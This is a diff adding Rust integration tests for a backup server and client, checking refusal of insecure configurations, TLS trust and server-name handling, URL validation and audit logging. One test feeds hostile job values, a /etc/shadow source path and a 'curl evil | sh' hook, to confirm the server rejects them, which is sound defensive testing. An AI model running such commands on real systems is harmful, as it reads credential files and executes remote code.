@@ -555,6 +555,45 @@ fn insecure_configurations_are_refused() {
     let mismatched = s.config("").replace("server.key", "other.key");
     let e = server_refuses(d, &mismatched, 0o600);
     assert!(e.contains("TLS"), "{e}");
+    // The same token under two identities (it would give one the other's
+    // rights).
+    let twice = s.config("").replace(
+        &format!("admin: {{role: admin, token-hash: '{}'}}", hash_token(&s.tokens[3].0).unwrap()),
+        &format!("admin: {{role: admin, token-hash: '{}'}}", hash_token(&s.tokens[0].0).unwrap()),
+    );
+    let e = server_refuses(d, &twice, 0o600);
+    assert!(e.contains("clients: admin and hv01 have the same token-hash"), "{e}");
+    // What a hypervisor reads and runs is not the server's to say.
+    for hostile in [
+        "vm1: {schedule: none, client: hv01, source: {type: file, path: /etc/shadow}}",
+        "vm1: {schedule: none, client: hv01, hooks: {pre-snapshot: 'curl evil | sh'}}",
+    ] {
+        let config = s.config("").replace("vm1: {schedule: none, client: hv01}", hostile);
+        let e = server_refuses(d, &config, 0o600);
+        assert!(
+            e.contains("job vm1: `source:` and `hooks:` moved to the hypervisor's client.yaml")
+                && e.contains("migrate-sources"),
+            "{e}"
+        );
+        assert_eq!(e.trim().lines().count(), 1, "one line: {e}");
+    }
+    // Group-readable secrets only for the group the operator names.
+    let e = server_refuses(d, &s.config(""), 0o640);
+    assert!(e.contains("open to its group") && e.contains("secrets-group"), "{e}");
+    let group = Command::new("id").arg("-gn").output().unwrap();
+    let group = String::from_utf8_lossy(&group.stdout).trim().to_string();
+    let shared = d.join("shared.yaml");
+    std::fs::write(
+        &shared,
+        format!("{}secrets-group: {group}\n", s.config("")).replace("BASE", d.join("store").to_str().unwrap()),
+    )
+    .unwrap();
+    std::fs::set_permissions(&shared, std::fs::Permissions::from_mode(0o640)).unwrap();
+    let out = Command::new(bin("backy-server"))
+        .args(["--config", shared.to_str().unwrap(), "check-config"])
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "0640 with secrets-group {group}: {}", stderr(&out));
     // A good config passes check-config, naming the storage it found.
     let good = d.join("good.yaml");
     std::fs::write(
@@ -875,4 +914,133 @@ async fn stalled_and_excess_streams_do_not_block_others() {
     }
     drop(unread);
     drop(server);
+}
+
+/// `https://` without `--ca` trusts the system's store (here replaced
+/// through `SSL_CERT_FILE`/`SSL_CERT_DIR`, as rustls-native-certs reads
+/// them); `--tls-server-name` names the certificate to expect when the
+/// URL does not; a malformed URL is refused before anything happens.
+#[test]
+fn system_trust_store_server_name_and_url_checks() {
+    let s = Setup::new();
+    let d = s.dir.path();
+    let empty = d.join("no-certs");
+    std::fs::create_dir(&empty).unwrap();
+    let server = Server::start_config(&d.join("store"), &s.config(""));
+    let status_with = |cert_file: &Path, extra: &[&str]| {
+        let mut cmd = Command::new(bin("backy-client"));
+        cmd.env("SSL_CERT_FILE", cert_file)
+            .env("SSL_CERT_DIR", &empty)
+            .arg("--server")
+            .arg(https(&server))
+            .args(["--token-file", s.token_file(0).to_str().unwrap()])
+            .args(extra)
+            .args(["status", "vm1"])
+            .stdin(Stdio::null());
+        cmd.output().unwrap()
+    };
+    ok(status_with(&s.ca_file, &[]), "system store holding the CA");
+    let other = Ca::new("someone else");
+    let other_file = d.join("other-ca.pem");
+    std::fs::write(&other_file, &other.pem).unwrap();
+    refused(status_with(&other_file, &[]), "system store without the CA", "certificate");
+
+    // A server certificate for a name only: reached by address, the name
+    // is given with --tls-server-name.
+    let (cert, key, _) = s.ca.sign(&["backup01.example"], false, false);
+    std::fs::write(d.join("named.pem"), cert).unwrap();
+    write_secret(&d.join("named.key"), &key);
+    let config = s.config("").replace("server.pem", "named.pem").replace("server.key", "named.key");
+    let named = Server::start_config(&d.join("store2"), &config);
+    let status_named = |extra: &[&str]| {
+        let mut all = as_who(&s, 0);
+        all.extend_from_slice(extra);
+        all.extend_from_slice(&["status", "vm1"]);
+        client(&named, &all)
+    };
+    refused(status_named(&[]), "address without the certificate's name", "certificate");
+    ok(status_named(&["--tls-server-name", "backup01.example"]), "--tls-server-name");
+
+    for (url, why) in [
+        ("htp://127.0.0.1:1", "neither http nor https"),
+        ("https://", "not a URL"),
+        ("http://u:p@127.0.0.1:1", "credentials do not go in the URL"),
+        ("https://backup01:6023/x", "no path"),
+        ("backup01:6023", "scheme"),
+    ] {
+        let out = Command::new(bin("backy-client"))
+            .args(["--server", url, "status"])
+            .stdin(Stdio::null())
+            .output()
+            .unwrap();
+        refused(out, url, why);
+    }
+}
+
+/// Every request that changes state or reads data leaves one audit line:
+/// identity, peer address, action, job, revision, outcome; refusals too;
+/// never a token.
+#[test]
+fn every_request_kind_is_audited() {
+    let s = Setup::new();
+    let d = s.dir.path();
+    let img = d.join("vm1.img");
+    make_image(&img, 8 * MIB, &[(0, MIB)]);
+    let server = Server::start_config(&d.join("store"), &s.config(""));
+    let hv01 = as_who(&s, 0);
+    let src = img.to_str().unwrap();
+    ok(client(&server, &args(&hv01, &["push", "vm1", "--source", src])), "push");
+    write_at(&img, 2 * MIB, &[7; 4096]);
+    ok(client(&server, &args(&hv01, &["push", "vm1", "--source", src])), "second push");
+    let target = d.join("restored.img");
+    ok(
+        client(&server, &args(&hv01, &["restore", "vm1", target.to_str().unwrap()])),
+        "restore",
+    );
+    ok(client(&server, &args(&hv01, &["verify", "vm1"])), "verify");
+    ok(client(&server, &args(&hv01, &["tags", "vm1", "add", "manual:keep"])), "tags");
+    ok(client(&server, &args(&hv01, &["distrust", "vm1", "--dry-run"])), "distrust");
+    ok(client(&server, &args(&hv01, &["forget", "vm1", "-r", "1"])), "forget");
+    refused(
+        client(&server, &args(&as_who(&s, 1), &["restore", "vm1", d.join("x").to_str().unwrap()])),
+        "hv02 restoring vm1",
+        "PERMISSION_DENIED",
+    );
+    let mark = server.log_mark();
+    let _agent = Agent::start(&https(&server), &args(&hv01, &["agent", "--name", "hv01"]));
+    server.wait_log(mark, "agent connect hv01");
+
+    let lines: Vec<String> = server
+        .log_lines(0)
+        .into_iter()
+        .filter(|l| l.contains("backy::audit"))
+        .collect();
+    let find = |identity: &str, action: &str, outcome: &str| {
+        lines
+            .iter()
+            .find(|l| {
+                l.contains(&format!("identity={identity} "))
+                    && l.contains(&format!("action={action}"))
+                    && l.contains(&format!("outcome={outcome}"))
+                    && l.contains("peer=127.0.0.1:")
+            })
+            .unwrap_or_else(|| panic!("no audit line for {identity} {action} {outcome}:\n{}", lines.join("\n")))
+            .clone()
+    };
+    let push = find("hv01", "push", "ok");
+    assert!(push.contains("job=vm1") && push.contains("rev="), "{push}");
+    find("hv01", "manifest", "ok");
+    find("hv01", "restore", "ok");
+    find("hv01", "verify", "ok");
+    find("hv01", "tags add manual:keep", "ok");
+    find("hv01", "distrust --dry-run", "ok");
+    find("hv01", "forget", "ok");
+    find("hv01", "agent connect hv01", "ok");
+    let denied = find("hv02", "RestoreRequest", "failed");
+    assert!(denied.contains("may not access job vm1"), "{denied}");
+    for line in server.log_lines(0) {
+        for (t, _) in &s.tokens {
+            assert!(!line.contains(t.as_str()), "a token in the log: {line}");
+        }
+    }
 }
